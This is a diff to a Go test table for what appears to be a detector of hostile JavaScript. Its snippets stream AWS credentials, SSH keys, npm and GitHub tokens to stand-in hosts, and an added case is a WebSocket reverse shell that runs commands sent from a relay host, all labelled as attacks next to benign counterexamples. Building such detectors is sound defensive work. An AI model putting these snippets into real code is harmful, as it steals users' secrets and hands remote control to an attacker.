@@ -101,6 +101,11 @@ func TestJS(t *testing.T) {
 		{"import { createReadStream } from 'node:fs';\nimport { request } from 'node:https';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nimport { pipeline } from 'node:stream/promises';\nconst req = request(u, { method: 'PUT' });\nawait pipeline(createReadStream(join(homedir(), '.aws', 'credentials')), req);\n", "secret-send"},
 		{"const fs = require('fs'), https = require('https'), os = require('os'), path = require('path');\nconst req = https.request('https://x.example/u', {method: 'POST'});\nfs.createReadStream(path.join(os.homedir(), '.ssh', 'id_rsa')).pipe(req);\n", "secret-send"},
 		{"const fs = require('fs'), https = require('https');\nconst req = https.request('https://x.example/u', {method: 'POST'});\nfs.createReadStream('dist/app.zip').pipe(req);\n", ""},
+		// A command a WebSocket to another machine sends, run; a fixed
+		// command on a message, or a socket to this machine: no.
+		{"const WebSocket = require('ws');\nconst { exec } = require('child_process');\nconst ws = new WebSocket('wss://relay.example.xyz/t');\nws.on('message', (raw) => {\n  const m = JSON.parse(raw);\n  if (m.type === 'ctl') exec(m.cmd, (e, o) => ws.send(o));\n});\n", "reverse-shell"},
+		{"const WebSocket = require('ws');\nconst { exec } = require('child_process');\nconst ws = new WebSocket('wss://relay.example.xyz/t');\nws.on('message', () => exec('npm run build'));\n", ""},
+		{"const WebSocket = require('ws');\nconst { exec } = require('child_process');\nconst ws = new WebSocket('ws://localhost:9229/dev');\nws.on('message', (raw) => exec(JSON.parse(raw).cmd));\n", ""},
 		// A list of credential files read each by a callback and sent; a
 		// list of the project's files read so is nothing.
 		{"import { readFileSync, existsSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nconst rc = join(homedir(), '.npmrc');\nconst gh = join(homedir(), '.config/gh/hosts.yml');\nconst blob = [rc, gh].filter(existsSync).map((p) => readFileSync(p, 'utf8')).join('\\n');\nawait fetch('https://x.example/w', { method: 'POST', body: blob });\n", "secret-send"},
